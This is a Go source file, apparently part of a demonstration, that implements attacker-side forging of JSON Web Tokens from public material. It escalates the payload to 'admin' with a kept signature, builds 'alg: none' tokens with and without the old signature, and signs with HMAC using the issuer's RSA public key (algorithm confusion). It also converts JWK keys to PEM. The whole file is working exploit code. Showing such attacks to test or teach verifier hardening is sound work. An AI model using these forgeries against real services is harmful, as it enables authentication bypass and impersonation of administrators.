// This file makes the tokens of the demo's attackers from what everybody can read. It uses no private
// key.

package main

import (
	"bytes"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"math/big"
	"strings"
)

// tokenParts are the three parts of a compact token, still encoded.
type tokenParts struct{ header, payload, signature string }

func (p tokenParts) String() string { return p.header + "." + p.payload + "." + p.signature }

func splitToken(token string) (tokenParts, error) {
	all := strings.Split(token, ".")
	if len(all) != 3 {
		return tokenParts{}, errors.New("the issuer's token does not have three parts")
	}
	return tokenParts{all[0], all[1], all[2]}, nil
}

// escalated changes a payload to more rights than the issuer gave.
func escalated(payload string) (string, error) {
	return rewritten(payload, func(claims map[string]any) {
		claims["sub"] = "admin"
		claims["scope"] = "read:messages"
	})
}

// rewritten changes one JSON part of a token.
func rewritten(part string, change func(map[string]any)) (string, error) {
	text, err := base64.RawURLEncoding.DecodeString(part)
	if err != nil {
		return "", fmt.Errorf("the issuer's token: %w", err)
	}
	members := map[string]any{}
	decoder := json.NewDecoder(bytes.NewReader(text))
	decoder.UseNumber() // dates stay as they are
	if err := decoder.Decode(&members); err != nil {
		return "", fmt.Errorf("the issuer's token: %w", err)
	}
	change(members)
	if text, err = json.Marshal(members); err != nil {
		return "", err
	}
	return base64.RawURLEncoding.EncodeToString(text), nil
}

// tamper changes the payload and keeps the signature.
func tamper(token string) (string, error) {
	p, err := splitToken(token)
	if err != nil {
		return "", err
	}
	p.payload, err = escalated(p.payload)
	return p.String(), err
}

// unsign makes a token with "alg": "none" and without a signature.
func unsign(token string) (string, error) {
	return withAlgorithm(token, "none", func(string) string { return "" })
}

// unsignStale makes a token with "alg": "none" that keeps the old signature, for parsers that require one.
func unsignStale(token string) (string, error) {
	p, err := splitToken(token)
	if err != nil {
		return "", err
	}
	return withAlgorithm(token, "none", func(string) string { return p.signature })
}

// confuse signs with HMAC, with the text of the issuer's public key as the secret: a verifier that lets the
// token choose the algorithm accepts this (RFC 8725 section 2.1).
func confuse(token string, publicPEM []byte) (string, error) {
	return withAlgorithm(token, "HS256", func(input string) string {
		mac := hmac.New(sha256.New, publicPEM)
		mac.Write([]byte(input))
		return base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
	})
}

// withAlgorithm forges a token with an escalated payload and the key id of a true one.
func withAlgorithm(token, alg string, sign func(input string) string) (string, error) {
	p, err := splitToken(token)
	if err != nil {
		return "", err
	}
	if p.header, err = rewritten(p.header, func(h map[string]any) { h["alg"] = alg }); err != nil {
		return "", err
	}
	if p.payload, err = escalated(p.payload); err != nil {
		return "", err
	}
	p.signature = sign(p.header + "." + p.payload)
	return p.String(), nil
}

// publishedKey is an RSA key of a JWK Set (RFC 7518 section 6.3.1).
type publishedKey struct{ N, E string }

// pem returns the key in the form of most files of public keys.
func (k publishedKey) pem() ([]byte, error) {
	n, err := base64.RawURLEncoding.DecodeString(k.N)
	if err != nil {
		return nil, fmt.Errorf("the issuer's key: %w", err)
	}
	e, err := base64.RawURLEncoding.DecodeString(k.E)
	if err != nil {
		return nil, fmt.Errorf("the issuer's key: %w", err)
	}
	public := &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())}
	der, err := x509.MarshalPKIXPublicKey(public)
	if err != nil {
		return nil, fmt.Errorf("the issuer's key: %w", err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), nil
}
